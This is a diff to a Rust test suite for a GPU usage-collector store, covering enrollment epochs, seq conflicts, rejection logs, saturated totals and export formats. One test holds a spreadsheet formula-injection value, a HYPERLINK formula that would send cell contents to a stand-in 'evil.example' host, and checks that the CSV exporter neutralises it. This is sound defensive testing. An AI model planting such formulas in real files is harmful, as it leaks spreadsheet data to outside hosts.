@@ -10,15 +10,22 @@ use std::sync::Arc;
 
 use common::*;
 use kycd_collector::fleet::{FindingKind, FindingQuery, FindingState, NewFinding, TenantIdentity};
+use kycd_collector::ingest::Admission;
 use kycd_collector::policy::PublishedPolicy;
 use kycd_collector::statements::POLL_HISTORY_PER_HOST;
-use kycd_collector::{Limits, PollOutcome, PollRecord, ReportStore, Storage, StoreError, ValidRecord};
+use kycd_collector::store::REJECTIONS_PER_HOST;
+use kycd_collector::{
+    Limits, PollOutcome, PollRecord, Rejection, ReportStore, Storage, StoreError, ValidRecord,
+};
 use kycd_protocol::{HostStatementClaims, UsageRecord};
 use serde_json::json;
 
 backend_tests!(
     overlap_with_a_stored_merged_record_conflicts,
+    a_conflict_names_the_stored_ranges_it_overlaps,
     enrollment_is_explicit_and_never_replaces_a_key,
+    a_new_key_starts_a_new_epoch_and_old_records_stay,
+    rejections_are_recorded_counted_and_bounded_per_host,
     acks_advance_over_out_of_order_and_merged_ranges,
     concurrent_writers_on_two_stores_store_each_seq_once,
     racing_conflicting_writers_never_store_overlapping_ranges,
@@ -28,13 +35,17 @@ backend_tests!(
     racing_raisers_raise_a_finding_once,
     tenant_identities_keep_the_newest,
     usage_aggregates_and_evidence,
+    totals_saturate_and_exports_never_print_null_or_inf,
+    csv_exports_neutralise_formula_cells_json_keeps_them,
     statements_status_history_and_removal,
     poll_history_is_bounded_per_host,
 );
 
 fn valid(records: Vec<UsageRecord>) -> Vec<ValidRecord> {
     let batch = batch("h", records);
-    kycd_collector::ingest::validate_batch(batch, &Limits::default()).unwrap()
+    // Received long after every window of these tests, from a host enrolled at time 0.
+    let admission = Admission { received_at: 2_000_000_000, enrolled_at: 0 };
+    kycd_collector::ingest::validate_batch(batch, &Limits::default(), admission).unwrap()
 }
 
 fn merged(seq: u64, last: u64) -> UsageRecord {
@@ -44,25 +55,64 @@ fn merged(seq: u64, last: u64) -> UsageRecord {
 async fn overlap_with_a_stored_merged_record_conflicts(db: TestDb) {
     let store = db.open();
     off_runtime(|| {
-        assert_eq!(store.insert_batch("h", &valid(vec![merged(2, 4)]), 0).unwrap(), 0);
+        assert_eq!(store.insert_batch("h", 1, &valid(vec![merged(2, 4)]), 0).unwrap(), 0);
         for overlapping in [record(3), record(4), merged(1, 2), merged(2, 3)] {
             assert!(matches!(
-                store.insert_batch("h", &valid(vec![overlapping]), 0),
+                store.insert_batch("h", 1, &valid(vec![overlapping]), 0),
                 Err(StoreError::SeqConflict { .. })
             ));
         }
-        assert_eq!(store.insert_batch("h", &valid(vec![merged(2, 4)]), 0).unwrap(), 0, "identical re-send");
-        assert_eq!(store.insert_batch("h", &valid(vec![record(1), record(5)]), 0).unwrap(), 5);
-        assert_eq!(store.stored_ranges("h").unwrap(), [(1, 1), (2, 4), (5, 5)]);
+        assert_eq!(
+            store.insert_batch("h", 1, &valid(vec![merged(2, 4)]), 0).unwrap(),
+            0,
+            "identical re-send"
+        );
+        assert_eq!(store.insert_batch("h", 1, &valid(vec![record(1), record(5)]), 0).unwrap(), 5);
+        assert_eq!(store.stored_ranges("h", 1).unwrap(), [(1, 1), (2, 4), (5, 5)]);
         // A conflict anywhere in a batch stores nothing of it.
         let mut changed = record(5);
         changed.window.gpus = 1;
         assert!(matches!(
-            store.insert_batch("h", &valid(vec![changed, record(6)]), 0),
-            Err(StoreError::SeqConflict { seq: 5 })
+            store.insert_batch("h", 1, &valid(vec![changed, record(6)]), 0),
+            Err(StoreError::SeqConflict { first: 5, last: 5, ref stored }) if stored == &[(5, 5)]
         ));
-        assert_eq!(store.stored_ranges("h").unwrap(), [(1, 1), (2, 4), (5, 5)]);
-        assert_eq!(store.acked_seq("h").unwrap(), 5);
+        assert_eq!(store.stored_ranges("h", 1).unwrap(), [(1, 1), (2, 4), (5, 5)]);
+        assert_eq!(store.acked_seq("h", 1).unwrap(), 5);
+    });
+}
+
+/// A conflict names the stored range(s) it collides with, not a seq of the incoming record
+/// that may never have been stored.
+async fn a_conflict_names_the_stored_ranges_it_overlaps(db: TestDb) {
+    let store = db.open();
+    off_runtime(|| {
+        store.insert_batch("h", 1, &valid(vec![merged(2, 4), record(6)]), 0).unwrap();
+        let conflict = |records| match store.insert_batch("h", 1, &valid(records), 0) {
+            Err(e @ StoreError::SeqConflict { .. }) => e,
+            other => panic!("{other:?}"),
+        };
+        // Partly overlapping: seq 1 was never stored; the stored merged record 2..=4 was.
+        let e = conflict(vec![merged(1, 2)]);
+        assert!(matches!(&e, StoreError::SeqConflict { first: 1, last: 2, stored } if stored == &[(2, 4)]));
+        let text = e.to_string();
+        assert!(text.contains("seq 1..=2 conflicts with stored seq 2..=4"), "{text}");
+        // Inside a stored merged range.
+        let e = conflict(vec![record(3)]);
+        assert!(matches!(&e, StoreError::SeqConflict { first: 3, last: 3, stored } if stored == &[(2, 4)]));
+        assert!(e.to_string().contains("seq 3 conflicts with stored seq 2..=4"), "{e}");
+        // A merged range over several stored records names them all.
+        let e = conflict(vec![merged(3, 7)]);
+        assert!(
+            matches!(&e, StoreError::SeqConflict { first: 3, last: 7, stored } if stored == &[(2, 4), (6, 6)]),
+            "{e:?}"
+        );
+        assert!(e.to_string().contains("stored seq 2..=4, 6 "), "{e}");
+        // Same seq, other content.
+        let mut changed = record(6);
+        changed.window.gpus = 1;
+        let e = conflict(vec![changed]);
+        assert!(matches!(&e, StoreError::SeqConflict { first: 6, last: 6, stored } if stored == &[(6, 6)]));
+        assert_eq!(store.stored_ranges("h", 1).unwrap(), [(2, 4), (6, 6)], "nothing of them stored");
     });
 }
 
@@ -79,30 +129,136 @@ async fn enrollment_is_explicit_and_never_replaces_a_key(db: TestDb) {
             Err(StoreError::AlreadyEnrolled(h)) if h == "host-a"
         ));
         assert_eq!(store.host_key("host-a").unwrap().unwrap().to_jwk(), a.public_key().to_jwk());
-        store.insert_batch("host-b", &valid(vec![record(1), record(2)]), 0).unwrap();
+        store.insert_batch("host-b", 1, &valid(vec![record(1), record(2)]), 0).unwrap();
         let hosts = store.list_hosts().unwrap();
         let listed: Vec<(&str, i64, u64)> =
             hosts.iter().map(|h| (h.host_id.as_str(), h.enrolled_at, h.acked_seq)).collect();
         assert_eq!(listed, [("host-a", 100, 0), ("host-b", 200, 2)]);
         assert!(store.remove_host("host-b").unwrap());
         assert!(!store.remove_host("host-b").unwrap());
-        assert_eq!(store.stored_ranges("host-b").unwrap().len(), 2, "records outlive the enrollment");
+        assert_eq!(store.stored_ranges("host-b", 1).unwrap().len(), 2, "records outlive the enrollment");
         assert_eq!(store.list_hosts().unwrap().len(), 1);
+    });
+}
+
+/// Re-imaging a host: `hosts remove`, then `hosts add` with the new key. The new agent numbers
+/// from 1 again; its records go to a new epoch beside the old ones, which stay; acks and
+/// idempotency are per epoch; the aggregation counts both.
+async fn a_new_key_starts_a_new_epoch_and_old_records_stay(db: TestDb) {
+    let store = db.storage();
+    let (key1, key2, key3) = (host_key("h"), host_key("h"), host_key("h"));
+    off_runtime(|| {
+        assert_eq!(store.enroll_host("h", &key1.public_key(), 100).unwrap(), 1);
+        let e = store.enrollment("h").unwrap().unwrap();
+        assert_eq!((e.epoch, e.enrolled_at, e.public_key.to_jwk()), (1, 100, key1.public_key().to_jwk()));
+        assert_eq!(store.insert_batch("h", 1, &valid((1..=3).map(record).collect()), 0).unwrap(), 3);
+
+        assert!(store.remove_host("h").unwrap());
+        assert!(store.enrollment("h").unwrap().is_none());
+        assert_eq!(store.stored_ranges("h", 1).unwrap(), [(1, 1), (2, 2), (3, 3)], "remove keeps records");
+        assert_eq!(store.enroll_host("h", &key2.public_key(), 200).unwrap(), 2);
+        assert!(matches!(
+            store.enroll_host("h", &key3.public_key(), 250),
+            Err(StoreError::AlreadyEnrolled(_))
+        ));
+        let e = store.enrollment("h").unwrap().unwrap();
+        assert_eq!((e.epoch, e.enrolled_at, e.public_key.to_jwk()), (2, 200, key2.public_key().to_jwk()));
+        // Seq 1 again, other content: a new record of epoch 2, not a conflict with epoch 1.
+        let mut fresh: Vec<UsageRecord> = (1..=2).map(record).collect();
+        for r in &mut fresh {
+            r.window.gpus = 4;
+        }
+        assert_eq!(store.acked_seq("h", 2).unwrap(), 0);
+        assert_eq!(store.insert_batch("h", 2, &valid(fresh.clone()), 0).unwrap(), 2);
+        assert_eq!(store.insert_batch("h", 2, &valid(fresh.clone()), 0).unwrap(), 2, "idempotent");
+        assert_eq!(store.stored_ranges("h", 2).unwrap(), [(1, 1), (2, 2)]);
+        assert_eq!(store.acked_seq("h", 1).unwrap(), 3, "the old epoch's ack stays");
+        assert!(matches!(
+            store.insert_batch("h", 2, &valid(vec![record(2)]), 0),
+            Err(StoreError::SeqConflict { first: 2, .. })
+        ));
+        let listed = store.list_hosts().unwrap();
+        assert_eq!(
+            listed.iter().map(|h| (h.host_id.as_str(), h.epoch, h.acked_seq)).collect::<Vec<_>>(),
+            [("h", 2, 2)]
+        );
+        // Every epoch's windows count: 3 + 2.
+        let usage = store.tenant_usage(None, None).unwrap();
+        assert_eq!(usage.iter().map(|u| u.windows).sum::<u64>(), 5);
+        assert_eq!(store.tenant_hosts("tenant-a").unwrap(), ["h"]);
+        let evidence = store.usage_evidence("tenant-a", 10).unwrap();
+        let mut seen: Vec<(u64, u64)> = evidence.iter().map(|e| (e.epoch, e.seq)).collect();
+        seen.sort_unstable();
+        assert_eq!(seen, [(1, 1), (1, 2), (1, 3), (2, 1), (2, 2)]);
+
+        // Re-adding a key the host id had continues its epoch (the same agent is still
+        // numbering; its resends must stay no-ops), from when that epoch began.
+        assert!(store.remove_host("h").unwrap());
+        assert_eq!(store.enroll_host("h", &key2.public_key(), 300).unwrap(), 2);
+        assert_eq!(store.enrollment("h").unwrap().unwrap().enrolled_at, 200);
+        assert_eq!(store.insert_batch("h", 2, &valid(fresh), 0).unwrap(), 2, "still a resend");
+        assert!(store.remove_host("h").unwrap());
+        assert_eq!(store.enroll_host("h", &key3.public_key(), 400).unwrap(), 3);
+        assert!(store.remove_host("h").unwrap());
+        assert_eq!(store.enroll_host("h", &key1.public_key(), 500).unwrap(), 1);
+        assert_eq!(store.insert_batch("h", 1, &valid(vec![record(4)]), 0).unwrap(), 4);
+        // Another host id's epochs are its own.
+        assert_eq!(store.enroll_host("other", &host_key("other").public_key(), 600).unwrap(), 1);
+    });
+}
+
+async fn rejections_are_recorded_counted_and_bounded_per_host(db: TestDb) {
+    let store = db.storage();
+    let rejection = |host: &str, at: i64, seqs: Option<(u64, u64)>| Rejection {
+        host_id: host.into(),
+        epoch: 2,
+        kind: "SeqConflict".into(),
+        detail: format!("detail {at} {}", "x".repeat(2000)),
+        seqs,
+        rejected_at: at,
+    };
+    off_runtime(|| {
+        assert!(store.rejection_counts(0).unwrap().is_empty());
+        store.record_rejection(&rejection("a", 100, Some((3, 7)))).unwrap();
+        store.record_rejection(&rejection("a", 200, None)).unwrap();
+        store.record_rejection(&rejection("b", 150, Some((1, 1)))).unwrap();
+        let counts = store.rejection_counts(0).unwrap();
+        assert_eq!(
+            counts.iter().map(|c| (c.host_id.as_str(), c.count, c.last_at)).collect::<Vec<_>>(),
+            [("a", 2, 200), ("b", 1, 150)]
+        );
+        let recent = store.rejection_counts(160).unwrap();
+        assert_eq!(recent.iter().map(|c| (c.host_id.as_str(), c.count)).collect::<Vec<_>>(), [("a", 1)]);
+        let listed = store.rejections("a", 10).unwrap();
+        assert_eq!(listed.len(), 2);
+        assert_eq!((listed[0].rejected_at, listed[0].seqs), (200, None), "newest first");
+        assert_eq!((listed[1].rejected_at, listed[1].seqs, listed[1].epoch), (100, Some((3, 7)), 2));
+        assert_eq!(listed[1].kind, "SeqConflict");
+        assert!(listed[1].detail.starts_with("detail 100 ") && listed[1].detail.len() <= 1024);
+        assert_eq!(store.rejections("a", 1).unwrap().len(), 1);
+        // A host that keeps sending bad batches keeps only its newest ones.
+        for at in 0..i64::from(REJECTIONS_PER_HOST) + 5 {
+            store.record_rejection(&rejection("a", 1000 + at, None)).unwrap();
+        }
+        let kept = store.rejections("a", u32::MAX).unwrap();
+        assert_eq!(kept.len(), REJECTIONS_PER_HOST as usize);
+        assert_eq!(kept[0].rejected_at, 1000 + i64::from(REJECTIONS_PER_HOST) + 4);
+        assert_eq!(store.rejections("b", 10).unwrap().len(), 1, "other hosts keep theirs");
     });
 }
 
 async fn acks_advance_over_out_of_order_and_merged_ranges(db: TestDb) {
     let store = db.open();
     off_runtime(|| {
-        assert_eq!(store.insert_batch("h", &valid(vec![record(8), record(9)]), 0).unwrap(), 0);
-        assert_eq!(store.insert_batch("h", &valid(vec![merged(4, 7)]), 0).unwrap(), 0);
-        assert_eq!(store.insert_batch("h", &valid(vec![record(2), record(3)]), 0).unwrap(), 0);
-        assert_eq!(store.acked_seq("other").unwrap(), 0);
+        assert_eq!(store.insert_batch("h", 1, &valid(vec![record(8), record(9)]), 0).unwrap(), 0);
+        assert_eq!(store.insert_batch("h", 1, &valid(vec![merged(4, 7)]), 0).unwrap(), 0);
+        assert_eq!(store.insert_batch("h", 1, &valid(vec![record(2), record(3)]), 0).unwrap(), 0);
+        assert_eq!(store.acked_seq("other", 1).unwrap(), 0);
         // Filling the one gap walks over everything stored out of order.
-        assert_eq!(store.insert_batch("h", &valid(vec![record(1)]), 0).unwrap(), 9);
-        assert_eq!(store.acked_seq("h").unwrap(), 9);
-        assert_eq!(store.insert_batch("h", &valid(vec![record(9), record(10)]), 0).unwrap(), 10);
-        assert_eq!(store.insert_batch("h", &valid(vec![]), 0).unwrap(), 10);
+        assert_eq!(store.insert_batch("h", 1, &valid(vec![record(1)]), 0).unwrap(), 9);
+        assert_eq!(store.acked_seq("h", 1).unwrap(), 9);
+        assert_eq!(store.insert_batch("h", 1, &valid(vec![record(9), record(10)]), 0).unwrap(), 10);
+        assert_eq!(store.insert_batch("h", 1, &valid(vec![]), 0).unwrap(), 10);
     });
 }
 
@@ -126,7 +282,7 @@ async fn concurrent_writers_on_two_stores_store_each_seq_once(db: TestDb) {
             let watcher = s.spawn(|| {
                 let mut seen = 0;
                 while writing.load(std::sync::atomic::Ordering::Relaxed) {
-                    let acked = stores[0].acked_seq("h").unwrap();
+                    let acked = stores[0].acked_seq("h", 1).unwrap();
                     assert!(acked >= seen, "the acked seq went back from {seen} to {acked}");
                     seen = acked;
                 }
@@ -139,7 +295,7 @@ async fn concurrent_writers_on_two_stores_store_each_seq_once(db: TestDb) {
                         let mut acks = Vec::new();
                         for b in batches.iter().skip(t).step_by(2).chain(batches.iter().rev().skip(t % 3)) {
                             loop {
-                                match store.insert_batch("h", b, 0) {
+                                match store.insert_batch("h", 1, b, 0) {
                                     Ok(acked) => {
                                         // Stored when answered: an ack reaching the batch covers it.
                                         let (first, last) = (b[0].record.seq, b[b.len() - 1].last_seq);
@@ -165,9 +321,9 @@ async fn concurrent_writers_on_two_stores_store_each_seq_once(db: TestDb) {
         })
     });
     assert!(acks.iter().all(|a| *a <= N), "{acks:?}");
-    let stored = off_runtime(|| stores[0].stored_ranges("h").unwrap());
+    let stored = off_runtime(|| stores[0].stored_ranges("h", 1).unwrap());
     assert_eq!(stored, (1..=N).map(|s| (s, s)).collect::<Vec<_>>());
-    assert_eq!(off_runtime(|| stores[1].acked_seq("h").unwrap()), N);
+    assert_eq!(off_runtime(|| stores[1].acked_seq("h", 1).unwrap()), N);
 }
 
 /// A merged record and a single record inside its range, stored at the same moment through
@@ -187,7 +343,7 @@ async fn racing_conflicting_writers_never_store_overlapping_ranges(db: TestDb) {
                         s.spawn(move || {
                             barrier.wait();
                             loop {
-                                match store.insert_batch(host, batch, 0) {
+                                match store.insert_batch(host, 1, batch, 0) {
                                     Err(e) if e.is_transient() => std::thread::yield_now(),
                                     other => break other,
                                 }
@@ -200,7 +356,7 @@ async fn racing_conflicting_writers_never_store_overlapping_ranges(db: TestDb) {
             let won = results.iter().filter(|r| r.is_ok()).count();
             let lost = results.iter().filter(|r| matches!(r, Err(StoreError::SeqConflict { .. }))).count();
             assert_eq!((won, lost), (1, 1), "round {round}: {results:?}");
-            let ranges = stores[0].stored_ranges(&host).unwrap();
+            let ranges = stores[0].stored_ranges(&host, 1).unwrap();
             assert!(ranges == [(2, 6)] || ranges == [(4, 4)], "round {round}: {ranges:?}");
         }
     });
@@ -416,6 +572,7 @@ fn tenant_window(
         max_concurrent_gpus: gpus,
         estimated_ops: ops,
         peak_flops: flops,
+        gpu_seconds: f64::from(gpus) * len as f64,
         ..window(start)
     }
 }
@@ -433,12 +590,12 @@ async fn usage_aggregates_and_evidence(db: TestDb) {
     off_runtime(|| {
         // Host a: three 60 s windows of t; host b: six 10 s windows of t in minute 1 and one
         // of u; an untenanted window.
-        let mut a: Vec<_> = (0..3).map(|m| tenant_window("t", t0 + 60 * m, 60, 1e18, 8e15, 8)).collect();
+        let mut a: Vec<_> = (0..3).map(|m| tenant_window("t", t0 + 60 * m, 60, 4e17, 8e15, 8)).collect();
         a.push(kycd_protocol::UsageWindow { tenant: None, ..window(t0) });
-        store.insert_batch("a", &batch_of(a), 1000).unwrap();
-        let mut b: Vec<_> = (0..6).map(|k| tenant_window("t", t0 + 60 + 10 * k, 10, 2e17, 4e15, 2)).collect();
-        b.push(tenant_window("u", t0 + 600, 60, 5e17, 1e15, 1));
-        store.insert_batch("b", &batch_of(b), 2000).unwrap();
+        store.insert_batch("a", 1, &batch_of(a), 1000).unwrap();
+        let mut b: Vec<_> = (0..6).map(|k| tenant_window("t", t0 + 60 + 10 * k, 10, 4e16, 4e15, 2)).collect();
+        b.push(tenant_window("u", t0 + 600, 60, 5e16, 1e15, 1));
+        store.insert_batch("b", 1, &batch_of(b), 2000).unwrap();
 
         let usage = store.tenant_usage(None, None).unwrap();
         assert_eq!(usage.iter().map(|u| u.tenant.as_str()).collect::<Vec<_>>(), ["t", "u"]);
@@ -446,8 +603,8 @@ async fn usage_aggregates_and_evidence(db: TestDb) {
         assert!((t.peak_flops / 12e15 - 1.0).abs() < 1e-9, "{t:?}");
         assert_eq!((t.peak_at, t.hosts, t.gpus, t.windows), (t0 + 60, 2, 10, 9));
         assert_eq!((t.first_seen, t.last_seen), (t0, t0 + 180));
-        assert!((t.estimated_ops - 4.2e18).abs() < 1e6, "{t:?}");
-        assert!((t.gpu_seconds - 9.0 * 480.0).abs() < 1e-6, "{t:?}");
+        assert!((t.estimated_ops - 1.44e18).abs() < 1e6, "{t:?}");
+        assert!((t.gpu_seconds - (3.0 * 480.0 + 6.0 * 20.0)).abs() < 1e-6, "{t:?}");
         assert!(t.foreign_person);
         assert_eq!(t.ops_by_method.keys().collect::<Vec<_>>(), ["gpm_tensor"]);
         assert_eq!(store.tenant_usage(Some("u"), None).unwrap(), [usage[1].clone()]);
@@ -590,5 +747,100 @@ async fn poll_history_is_bounded_per_host(db: TestDb) {
         assert_eq!(history.last().unwrap().0, i64::from(total - POLL_HISTORY_PER_HOST));
         assert_eq!(store.host_poll_status().unwrap()[0].consecutive_failures, total);
         assert_eq!(store.poll_history("b", u32::MAX).unwrap().len(), 1, "other hosts keep theirs");
+    });
+}
+
+/// Windows stored before ingest bounded their values (or written by hand) with values near
+/// `f64::MAX`: every total saturates at `f64::MAX` instead of becoming `inf`, and neither
+/// export format prints `null` or `inf` for a number.
+async fn totals_saturate_and_exports_never_print_null_or_inf(db: TestDb) {
+    let store = db.storage();
+    let t0 = 1_800_000_000 / 60 * 60;
+    off_runtime(|| {
+        let huge = |seq: u64| {
+            let mut w = tenant_window("t", t0, 60, 1e308, 1e308, 8);
+            w.gpu_seconds = 1e308;
+            let record = UsageRecord { seq, last_seq: None, window: w };
+            // Not through validation: ingest refuses these now.
+            ValidRecord { body_json: serde_json::to_string(&record).unwrap(), last_seq: seq, record }
+        };
+        store.insert_batch("a", 1, &[huge(1), huge(2), huge(3)], 1000).unwrap();
+        store.insert_batch("b", 1, &[huge(1)], 1000).unwrap();
+        let usage = store.tenant_usage(None, None).unwrap();
+        assert_eq!(usage.len(), 1);
+        let u = &usage[0];
+        assert_eq!((u.estimated_ops, u.gpu_seconds, u.peak_flops), (f64::MAX, f64::MAX, f64::MAX), "{u:?}");
+        assert!(u.gpu_hours().is_finite());
+        assert_eq!(u.ops_by_method["gpm_tensor"], f64::MAX);
+        assert_eq!(u.windows, 4);
+        let text = serde_json::to_string(u).unwrap();
+        assert!(!text.contains("null"), "{text}");
+
+        let rows = kycd_collector::export::rows(store.as_ref(), 0).unwrap();
+        assert_eq!(rows.len(), 1);
+        let json = kycd_collector::export::render(&rows, kycd_collector::export::Format::Json).unwrap();
+        assert!(!json.contains("null"), "{json}");
+        let parsed: serde_json::Value = serde_json::from_str(&json).unwrap();
+        assert_eq!(parsed[0]["estimated_ops"].as_f64(), Some(f64::MAX));
+        assert_eq!(parsed[0]["peak_flops"].as_f64(), Some(f64::MAX));
+        let csv = kycd_collector::export::render(&rows, kycd_collector::export::Format::Csv).unwrap();
+        assert_finite_csv_numbers(&csv);
+        assert!(csv.contains(",1.7976931348623157e308,"), "{csv}");
+        // Rows built by hand with non-finite numbers are rendered finite too.
+        let mut odd = rows[0].clone();
+        (odd.estimated_ops, odd.gpu_hours, odd.peak_flops) = (f64::INFINITY, f64::NAN, f64::NEG_INFINITY);
+        let json =
+            kycd_collector::export::render(&[odd.clone()], kycd_collector::export::Format::Json).unwrap();
+        assert!(!json.contains("null"), "{json}");
+        let csv = kycd_collector::export::render(&[odd], kycd_collector::export::Format::Csv).unwrap();
+        assert_finite_csv_numbers(&csv);
+    });
+}
+
+/// The numeric columns of every CSV row (estimated_ops, gpu_hours, peak_flops) are finite
+/// numbers.
+fn assert_finite_csv_numbers(csv: &str) {
+    let mut lines = csv.lines();
+    let header: Vec<&str> = lines.next().unwrap().split(',').collect();
+    for line in lines {
+        let fields: Vec<&str> = line.split(',').collect();
+        for column in ["estimated_ops", "gpu_hours", "peak_flops"] {
+            let value = fields[header.iter().position(|h| *h == column).unwrap()];
+            assert!(value.parse::<f64>().is_ok_and(f64::is_finite), "{column} = {value:?} in {line}");
+        }
+    }
+}
+
+/// A tenant id and a legal name that a spreadsheet would evaluate (they come from
+/// attestations and host statements): text in the CSV export, exact in JSON.
+async fn csv_exports_neutralise_formula_cells_json_keeps_them(db: TestDb) {
+    let store = db.storage();
+    off_runtime(|| {
+        let tenant = "@SUM(1+1)";
+        let legal = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Acme\")";
+        let w = tenant_window(tenant, 1_800_000_000, 60, 1e17, 8e15, 8);
+        store
+            .insert_batch("h", 1, &valid(vec![UsageRecord { seq: 1, last_seq: None, window: w }]), 0)
+            .unwrap();
+        store
+            .upsert_tenant_identities(&[TenantIdentity {
+                legal_name: legal.into(),
+                ..identity(tenant, "", &[], 1)
+            }])
+            .unwrap();
+        let rows = kycd_collector::export::rows(store.as_ref(), 0).unwrap();
+        assert_eq!((rows[0].tenant.as_str(), rows[0].legal_name.as_str()), (tenant, legal));
+        let csv = kycd_collector::export::render(&rows, kycd_collector::export::Format::Csv).unwrap();
+        let row = csv.split("\r\n").nth(1).unwrap();
+        assert!(
+            row.starts_with(r#"'@SUM(1+1),"'=HYPERLINK(""https://evil.example/?""&A1,""Acme"")",SG,"#),
+            "{row}"
+        );
+        let json = kycd_collector::export::render(&rows, kycd_collector::export::Format::Json).unwrap();
+        let parsed: serde_json::Value = serde_json::from_str(&json).unwrap();
+        assert_eq!(
+            (parsed[0]["tenant"].as_str(), parsed[0]["legal_name"].as_str()),
+            (Some(tenant), Some(legal))
+        );
     });
 }
